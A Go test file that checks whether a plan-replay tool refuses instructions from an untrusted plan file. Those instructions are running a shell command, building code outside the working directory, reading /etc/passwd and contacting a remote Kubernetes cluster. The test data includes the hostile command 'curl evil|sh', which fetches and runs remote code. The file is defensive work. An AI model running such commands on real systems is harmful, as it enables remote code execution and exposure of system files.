package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/operon-framework/operon/prove"
)

// kubeconfigOf writes a kubeconfig for a server.
func kubeconfigOf(t *testing.T, server string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "kubeconfig")
	content := fmt.Sprintf(`{"apiVersion":"v1","kind":"Config","current-context":"a","contexts":[{"name":"a","context":{"cluster":"a"}}],"clusters":[{"name":"a","cluster":{"server":%q}}]}`, server)
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// A plan file contains a command and paths, and may come from an untrusted person. A replay uses only the ones that the command
// line names.
func TestAReplayRunsOnlyWhatTheCommandLineNames(t *testing.T) {
	dir, outside := t.TempDir(), t.TempDir()
	t.Chdir(dir)
	if err := os.Symlink(outside, filepath.Join(dir, "link")); err != nil {
		t.Fatal(err)
	}
	samples := filepath.Join(dir, "samples")
	remote, loopback := kubeconfigOf(t, "https://10.0.0.1:6443"), kubeconfigOf(t, "https://127.0.0.1:6443")
	for name, test := range map[string]struct {
		file    prove.Target
		given   proving
		refused string // "" if the replay starts
	}{
		"a command of the file":        {prove.Target{Run: "curl evil|sh", Samples: samples}, proving{}, "run the shell command: curl evil|sh"},
		"a command that is given":      {prove.Target{Run: "curl evil|sh", Samples: samples}, proving{target: prove.Target{Run: "./mine"}}, ""},
		"a project that is given":      {prove.Target{Run: "curl evil|sh", Samples: samples}, proving{target: prove.Target{Dir: outside}}, ""},
		"a trusted file":               {prove.Target{Run: "curl evil|sh", Samples: outside}, proving{trustFile: true}, ""},
		"the working directory":        {prove.Target{Dir: dir}, proving{}, ""},
		"a project elsewhere":          {prove.Target{Dir: outside}, proving{}, "build and run " + outside},
		"a main package elsewhere":     {prove.Target{Dir: dir, Main: "../x"}, proving{}, "build and run "},
		"a project behind a link":      {prove.Target{Dir: filepath.Join(dir, "link")}, proving{}, "build and run "},
		"manifests elsewhere":          {prove.Target{Dir: dir, Setup: outside}, proving{}, "read " + outside},
		"accepted findings elsewhere":  {prove.Target{Dir: dir, Accept: "/etc/passwd"}, proving{}, "read /etc/passwd"},
		"manifests of a given project": {prove.Target{Dir: dir, Setup: outside}, proving{target: prove.Target{Dir: outside}}, ""},
		"a cluster elsewhere":          {prove.Target{Dir: dir}, proving{kubeconfig: remote}, "in the cluster at https://10.0.0.1:6443"},
		"a cluster on this machine":    {prove.Target{Dir: dir}, proving{kubeconfig: loopback}, ""},
	} {
		target, err := test.given.consent(&prove.File{Target: test.file})
		if test.refused != "" && (err == nil || !strings.Contains(err.Error(), test.refused) || !strings.Contains(err.Error(), "--trust-file")) {
			t.Errorf("%s: %v, want %q", name, err, test.refused)
		}
		if test.refused == "" && err != nil {
			t.Errorf("%s: %v", name, err)
		}
		if err == nil && !test.given.trustFile && strings.Contains(target.Run, "evil") {
			t.Errorf("%s: runs %s", name, target.Run)
		}
	}
}
